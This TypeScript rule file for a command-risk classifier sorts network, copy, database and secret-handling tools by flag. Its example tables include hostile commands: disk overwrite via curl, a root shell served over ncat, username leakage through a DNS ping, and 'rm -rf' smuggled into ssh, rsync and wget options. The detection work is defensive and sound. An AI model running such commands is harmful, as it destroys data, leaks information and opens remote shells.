import type { Rule } from '../rule.ts';

/** Programs that speak to other machines. */
export const networkRules: readonly Rule[] = [
  {
    names: 'curl',
    is: 'NETWORK',
    valued:
      '-o -O -X -d -H -F -T -u -A -e -b -c -K -x -m -w -r -s --output --request --data --header --form --upload-file --config --dump-header -D --trace --cookie-jar --stderr',
    effects: [
      {
        on: '-o --output --output-dir -D --dump-header -c --cookie-jar --trace --trace-ascii --etag-save --hsts --alt-svc --stderr --libcurl',
        is: 'MUTATING',
        why: 'writes a file',
        value: 'file',
      },
      { on: '-O --remote-name --remote-name-all -J', is: 'MUTATING', why: 'writes a file' },
      { on: '-K --config', is: 'MUTATING', why: 'takes its options from a file' },
    ],
    judge: 'curl',
    examples: [
      ['curl https://example.com', 'NETWORK'],
      ['curl -sSL -o f.tgz https://example.com/f.tgz', 'NETWORK'],
      ['curl -X DELETE https://x.test/1', 'NETWORK!'],
      ['curl -o /dev/sda https://x.test', 'DESTRUCTIVE!'],
      ["curl -H 'X: sudo rm -rf /' https://x.test", 'NETWORK'],
      ['curl --version', 'READ_ONLY'],
    ],
  },
  {
    names:
      'wget wget2 aria2c axel http https httpie xh curlie lynx w3m links elinks httrack yt-dlp youtube-dl wscat websocat grpcurl hey ab wrk k6 siege vegeta ngrok cloudflared localtunnel lt bore',
    is: 'NETWORK',
    valued: '-O -o -P -i -e --output-document --output-file --directory-prefix --execute --use-askpass --post-file',
    effects: [
      { on: '-O --output-document -o --output-file -a', is: 'MUTATING', why: 'writes a file', value: 'file' },
      { on: '-e --execute', is: 'MUTATING', why: 'obeys a command that is typed in' },
      {
        on: '--use-askpass --on-download-complete --on-download-stop --exec',
        is: 'MUTATING',
        why: 'runs a program that is named',
        value: 'shell',
      },
    ],
    examples: [
      ['wget -qO- https://x.test', 'NETWORK'],
      ["wget --use-askpass='rm -rf x' https://x.test", 'DESTRUCTIVE!'],
    ],
  },
  {
    names: 'ssh slogin autossh mosh et dbclient plink pssh pdsh clush',
    is: 'NETWORK',
    valued: '-b -c -D -e -E -F -I -i -J -L -l -m -O -o -p -P -Q -R -S -W -w',
    effects: [
      { on: '-o', is: 'NETWORK', why: 'runs a program that is named', value: 'shell', when: /command|askpass/i },
      { on: '-F', is: 'NETWORK', why: 'takes its options from a file' },
    ],
    carries: { as: 'shell', skip: 1, none: 'NETWORK' },
    judge: 'ssh',
    examples: [
      ['ssh host uptime', 'NETWORK'],
      ['ssh host sudo id', 'PRIVILEGED'],
      ["ssh -p 22 host 'rm -rf x'", 'DESTRUCTIVE!'],
      ["ssh host <<'EOF'\nsudo id\nEOF", 'PRIVILEGED'],
      ["ssh -o ProxyCommand='rm -rf x' host", 'DESTRUCTIVE!'],
    ],
  },
  {
    names: 'scp sftp ftp lftp ncftp tftp rclone croc wormhole magic-wormhole smbclient davfs mc',
    is: 'NETWORK',
    valued: '-P -i -o -F -S -c -l -J -b -e',
    effects: [
      { on: '-o', is: 'NETWORK', why: 'runs a program that is named', value: 'shell', when: /command/i },
      { on: '-S', is: 'NETWORK', why: 'runs a program that is named', value: 'shell' },
    ],
    examples: [
      ['scp a.txt host:/tmp/', 'NETWORK'],
      ['sftp host', 'NETWORK'],
    ],
  },
  {
    names: 'rsync',
    is: 'READ_ONLY',
    valued:
      '-e -f -T -B --rsh --rsync-path --exclude --include --filter --files-from --log-file --password-file --port --temp-dir --backup-dir --partial-dir --link-dest --out-format',
    effects: [
      {
        on: '-e --rsh',
        is: 'MUTATING',
        why: 'runs a program that is named',
        value: 'shell',
        unless: /^ssh( -p \d+)?$/,
      },
      { on: '--rsync-path', is: 'NETWORK', why: 'runs a program on the other side', value: 'shell' },
      {
        on: '--delete --delete-before --delete-after --delete-during --delete-delay --delete-excluded --del --remove-source-files',
        is: 'MUTATING',
        why: 'removes files',
        irreversible: true,
      },
      { on: '--log-file --write-batch --only-write-batch', is: 'MUTATING', why: 'writes a file', value: 'file' },
    ],
    judge: 'remote-copy',
    examples: [
      ['rsync -a src/ host:/srv/', 'NETWORK'],
      ['rsync -a a/ b/', 'MUTATING'],
      ['rsync -a --delete empty/ ./', 'MUTATING!'],
      ['rsync -e \'sh -c "rm -rf x"\' a host:b', 'DESTRUCTIVE!'],
    ],
  },
  {
    names: 'nc netcat ncat socat telnet',
    is: 'NETWORK',
    valued: '-e -c -p -s -w -X -x -i -o --exec --sh-exec --lua-exec',
    effects: [
      {
        on: '-e --exec -c --sh-exec --lua-exec',
        is: 'NETWORK',
        why: 'gives a program to whoever connects',
        value: 'shell',
      },
      { on: '-o --output -x --hex-dump', is: 'MUTATING', why: 'writes a file', value: 'file', when: /\// },
    ],
    judge: 'socat',
    examples: [
      ['nc -z example.com 80', 'NETWORK'],
      ["socat TCP:x.test:1 EXEC:'sudo id'", 'PRIVILEGED'],
      ["ncat -e 'sudo sh' x.test 1", 'PRIVILEGED'],
    ],
  },
  {
    names:
      'ping ping6 fping hping3 traceroute traceroute6 tracepath mtr nslookup dig host drill whois arp-scan nmap masscan zmap ssh-keyscan ssh-copy-id finger snmpwalk ldapsearch avahi-browse iperf iperf3 speedtest speedtest-cli tcpdump tshark wireshark ntpdate mail mailx sendmail mutt swaks msmtp irssi weechat kinit rdesktop xfreerdp vncviewer openvpn wg tailscale zerotier-cli ipfs transmission-cli',
    is: 'NETWORK',
    examples: [
      ['ping -c1 example.com', 'NETWORK'],
      ['dig example.com', 'NETWORK'],
      ['ping -c1 "$(whoami).x.test"', 'NETWORK'],
    ],
  },
  {
    names: 'openssl',
    is: 'MUTATING',
    style: 'single',
    other: 'MUTATING',
    verbs: {
      NETWORK: 's_client s_server s_time ocsp cmp tsget',
      READ_ONLY: 'version list help',
      MUTATING:
        'genrsa genpkey req ca enc pkcs12 pkcs8 rsa rsautl pkeyutl rand passwd rehash ecparam gendsa dhparam engine',
    },
    forms: {
      'x509 crl dgst sha256 md5 sha1 sha512 ciphers errstr prime speed asn1parse verify': {
        is: 'READ_ONLY',
        reads: true,
        style: 'single',
        valued: '-in -out -sign -verify',
        effects: [
          { on: '-out -sign -engine -provider -provider-path', is: 'MUTATING', why: 'writes a file or loads code' },
        ],
      },
    },
    examples: [
      ['openssl s_client -connect example.com:443', 'NETWORK'],
      ['openssl x509 -in cert.crt -noout -text', 'READ_ONLY'],
      ['openssl version', 'READ_ONLY'],
    ],
  },
  {
    names:
      'psql mysql mariadb mongo mongosh sqlite3 sqlite redis-cli valkey-cli cqlsh clickhouse-client duckdb influx etcdctl sqlcmd sqlplus bq pgcli mycli litecli usql dbmate prisma sequelize typeorm knex flyway liquibase alembic mysqldump pg_dump pg_restore mongodump mongorestore dropdb createdb mysqladmin memcached-tool nats kafka-topics kafkacat kcat rabbitmqadmin',
    is: 'MUTATING',
    why: 'may change what a database holds',
    tool: true,
    judge: 'sql',
    examples: [
      ["psql -c 'drop table users'", 'MUTATING!'],
      ["psql -c 'select 1'", 'MUTATING'],
      ['redis-cli FLUSHALL', 'MUTATING!'],
    ],
  },
  {
    names:
      'gpg gpg2 age sops ssh-keygen ssh-add ssh-agent pass op vault bw secret-tool security keyctl pass-cli lpass keepassxc-cli certbot step mkcert htpasswd keytool cosign',
    is: 'MUTATING',
    why: 'shows or changes keys and secrets',
    examples: [
      ['gpg --export-secret-keys', 'MUTATING'],
      ['vault read secret/x', 'MUTATING'],
    ],
  },
];
